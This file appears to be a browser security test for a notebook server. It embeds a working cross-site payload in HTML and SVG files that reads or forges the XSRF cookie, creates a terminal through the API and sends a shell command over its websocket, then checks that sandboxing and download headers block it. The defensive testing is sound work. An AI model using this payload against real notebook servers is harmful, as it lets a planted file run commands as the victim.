// Browser test of issue 11 item 1: untrusted HTML cannot act as the user.
//
// An HTML (and an SVG) file in the notebook root, opened from /files/, and
// an HTML artifact uploaded to a run through the control plane, opened from
// /api/ferry/v1/, carry the terminal attack: set an _xsrf cookie of their
// own and echo it (or read the real one), POST /api/terminals, open the
// terminal websocket and run `touch <marker>`. Before the fix the file ran
// in the server's origin and the marker appeared. Now:
//
// - the file's script runs (its document.title says so) but in a sandbox
//   (Content-Security-Policy: sandbox allow-scripts): it can neither read
//   nor set cookies, and its requests (Origin: null) are refused, the
//   websocket to an existing terminal included; no marker;
// - the artifact is downloaded as an attachment, never rendered; no marker.
//
// The same attack, run in the server's own origin (the lab page, where the
// file ran before the fix), does create the marker — the attack is real —
// after its forged _xsrf cookie was refused: the XSRF token is bound to the
// login session.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { s, step, setup, waitFor, api, openLab, serverExitsOnSIGTERM } from './harness.mjs';

setup({ prefix: 'security-' });

// attack is the payload, run in a page: it reports what it did in
// document.title ("running: ..." then "done: ..."), as key=value pairs,
// and returns the final title.
async function attack({ marker, term }) {
  const log = [];
  const report = (k, v) => {
    log.push(`${k}=${v}`);
    document.title = `running: ${log.join(' ')}`;
  };
  report('ran', 1);
  let real = null;
  try {
    real = (document.cookie.match(/(?:^|;\s*)_xsrf=([^;]*)/) || [])[1] ?? null;
    report('readcookie', real ? 'ok' : 'none');
  } catch (e) {
    report('readcookie', e.name);
  }
  const post = async (xsrf) => {
    try {
      const r = await fetch('/api/terminals', {
        method: 'POST', credentials: 'include', body: '{}',
        headers: { 'Content-Type': 'application/json', 'X-XSRFToken': xsrf },
      });
      return { status: String(r.status), body: r.ok ? await r.json() : null };
    } catch (e) {
      return { status: e.name };
    }
  };
  // A cookie of its own, on /api/ only (sent before the real one there).
  const forged = 'ab'.repeat(20);
  try {
    document.cookie = `_xsrf=${forged}; path=/api/`;
    report('setcookie', 'ok');
  } catch (e) {
    report('setcookie', e.name);
  }
  report('forged', (await post(forged)).status);
  try { document.cookie = '_xsrf=; path=/api/; max-age=0'; } catch { /* sandboxed */ }
  let name = term;
  if (real) {
    const res = await post(decodeURIComponent(real));
    report('real', res.status);
    if (res.body) name = res.body.name;
  }
  const u = new URL(`/terminals/websocket/${encodeURIComponent(name)}`, location.href);
  u.protocol = u.protocol === 'https:' ? 'wss:' : 'ws:';
  const ws = await new Promise((resolve) => {
    let sock;
    try {
      sock = new WebSocket(u);
    } catch (e) {
      resolve(e.name);
      return;
    }
    sock.onopen = () => {
      sock.send(JSON.stringify(['stdin', `touch '${marker}'\r`]));
      resolve('open');
    };
    sock.onerror = () => resolve('error');
    sock.onclose = () => resolve('closed');
  });
  report('ws', ws);
  document.title = `done: ${log.join(' ')}`;
  return document.title;
}

// attackHTML and attackSVG are documents that run attack with the
// parameters of their URL's query.
const call = `(${attack.toString()})(Object.fromEntries(new URLSearchParams(location.search)));`;
const attackHTML = `<!doctype html><html><head><meta charset="utf-8"><title>report</title></head>
<body><p>A harmless-looking report.</p><script>${call}</script></body></html>\n`;
const attackSVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>plot</title>
<script><![CDATA[${call}]]></script></svg>\n`;

// result parses a "done: k=v ..." title.
function result(title) {
  return Object.fromEntries(title.replace(/^done: /, '').split(' ').map((kv) => kv.split('=')));
}

function marker(name) {
  return path.join(s.tmp, 'root', `marker-${name}`);
}

// openAttack opens url in a new page of the logged-in browser, waits for
// the attack to finish and returns its report.
async function openAttack(url) {
  const page = await s.context.newPage();
  try {
    const resp = await page.goto(url);
    assert.equal(resp.status(), 200, `GET ${url}`);
    const title = await waitFor(`the attack in ${url} to finish`, async () => {
      const t = await page.title();
      return t.startsWith('done: ') ? t : null;
    });
    return { headers: resp.headers(), report: result(title) };
  } finally {
    await page.close();
  }
}

let terminal = ''; // a terminal the user has open

step('open /lab with the token: the browser is logged in', [], async () => {
  await openLab();
  const cookies = await s.context.cookies(s.base);
  assert.ok(cookies.some((c) => c.name.startsWith('ferry-login-')), 'a login cookie');
  assert.ok(cookies.some((c) => c.name === '_xsrf'), 'an _xsrf cookie');
  terminal = (await api('POST', '/api/terminals', {})).name;
});

for (const [file, content] of [['attack.html', attackHTML], ['attack.svg', attackSVG]]) {
  step(`${file} in the root runs sandboxed and cannot reach a terminal`, ['open /lab with the token: the browser is logged in'], async (t) => {
    fs.writeFileSync(path.join(s.tmp, 'root', file), content);
    const m = marker(file);
    const names = async () => (await api('GET', '/api/terminals')).map((x) => x.name).sort();
    const before = await names();
    const { headers, report } = await openAttack(
      `${s.base}/files/${file}?marker=${encodeURIComponent(m)}&term=${encodeURIComponent(terminal)}`
    );
    t.diagnostic(`what the page did: ${JSON.stringify(report)}`);
    // Its script ran, in an opaque origin: no cookies; every request refused.
    assert.equal(report.ran, '1', `the script ran: ${JSON.stringify(report)}`);
    assert.equal(report.readcookie, 'SecurityError', `reading cookies: ${JSON.stringify(report)}`);
    assert.equal(report.setcookie, 'SecurityError', `setting a cookie: ${JSON.stringify(report)}`);
    assert.notEqual(report.forged, '200', `POST /api/terminals: ${JSON.stringify(report)}`);
    assert.equal(report.real, undefined, `no real _xsrf was read: ${JSON.stringify(report)}`);
    assert.notEqual(report.ws, 'open', `the websocket of terminal ${terminal}: ${JSON.stringify(report)}`);
    assert.deepEqual(await names(), before, 'no terminal was created');
    assert.ok(!fs.existsSync(m), `${m} exists: the page ran a command`);
    assert.match(headers['content-security-policy'] ?? '', /(^|;)\s*sandbox allow-scripts\s*(;|$)/);
    assert.equal(headers['x-content-type-options'], 'nosniff');
  });
}

step('an HTML artifact of a run is downloaded, not rendered', ['open /lab with the token: the browser is logged in'], async () => {
  const run = await api('POST', '/api/ferry/v1/runs', { experiment_id: '0', name: 'attack' });
  const m = marker('artifact');
  const put = await fetch(`${s.base}/api/ferry/v1/runs/${run.id}/artifacts/report.html`, {
    method: 'PUT', body: attackHTML, headers: { Authorization: `token ${s.token}`, 'Content-Type': 'text/html' },
  });
  assert.equal(put.status, 201, `PUT the artifact: ${await put.text()}`);
  const url = `${s.base}/api/ferry/v1/runs/${run.id}/artifacts/report.html?marker=${encodeURIComponent(m)}&term=${encodeURIComponent(terminal)}`;

  // Opened in the logged-in browser (cookie authentication), it is a
  // download: the page never renders it (before the fix it did, and its
  // script ran).
  const page = await s.context.newPage();
  try {
    const download = page.waitForEvent('download');
    download.catch(() => { /* the page rendered it instead */ });
    // goto fails with "Download is starting" when the response is one.
    const rendered = await page.goto(url).then(() => true, () => false);
    if (rendered) {
      await page.waitForFunction(() => document.title.startsWith('done: '), null, { timeout: 10_000 }).catch(() => {});
      assert.fail(`the artifact was rendered as a page; its script did: ${await page.title()}`);
    }
    const dl = await download;
    assert.equal(dl.suggestedFilename(), 'report.html');
    assert.equal(fs.readFileSync(await dl.path(), 'utf8'), attackHTML, 'the browser received the attack');
  } finally {
    await page.close();
  }
  assert.ok(!fs.existsSync(m), `${m} exists: the artifact ran a command`);

  const get = await fetch(url, { headers: { Authorization: `token ${s.token}` } });
  assert.equal(await get.text(), attackHTML, 'the artifact holds the attack');
  assert.match(get.headers.get('content-disposition') ?? '', /^attachment;/);
  assert.equal(get.headers.get('x-content-type-options'), 'nosniff');
  assert.match(get.headers.get('content-security-policy') ?? '', /^sandbox;/);
});

step('the same attack in the server origin works, with the real _xsrf only', ['open /lab with the token: the browser is logged in'], async (t) => {
  // Where the HTML file ran before the fix: proves that the attack is real
  // and that the refusals above come from the defences.
  const m = marker('same-origin');
  const report = result(await s.page.evaluate(attack, { marker: m, term: terminal }));
  t.diagnostic(`what the attack did: ${JSON.stringify(report)}`);
  assert.equal(report.readcookie, 'ok', JSON.stringify(report));
  assert.equal(report.setcookie, 'ok', JSON.stringify(report));
  assert.equal(report.forged, '403', `a forged _xsrf cookie is refused (bound to the session): ${JSON.stringify(report)}`);
  assert.equal(report.real, '200', `the real _xsrf is accepted: ${JSON.stringify(report)}`);
  assert.equal(report.ws, 'open', JSON.stringify(report));
  await waitFor(`${m} to be created by the terminal`, () => fs.existsSync(m));
});

step('notebookd exits on SIGTERM', [], serverExitsOnSIGTERM);
